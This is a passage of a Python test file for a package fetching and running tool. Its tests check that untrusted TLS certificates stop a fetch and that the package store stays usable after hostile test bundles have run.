    """Without the CA of these tests no server here is believed."""
    server.add(*wheel("dep", "1.0", {"dep.py": ""}))
    bundle = bundle_with(hostile, "dep")
    system = "/etc/ssl/certs/ca-certificates.crt"
    result = go(hostile, bundle, server, "a certificate of nobody's", SSL_CERT_FILE=system)
    assert result.error["phase"] == "fetch" and server.log == []


@runs(*BOTH)
def test_the_store_works_after_them(hostile: HostileRunner) -> None:
    """A package that broke the store would break every later run."""
    for options in ((), ("--no-cache",)):
        assert ends(hostile(hostile.bundle(WIRE), None, *options, name="a good bundle after the hostile ones")) == "ran"
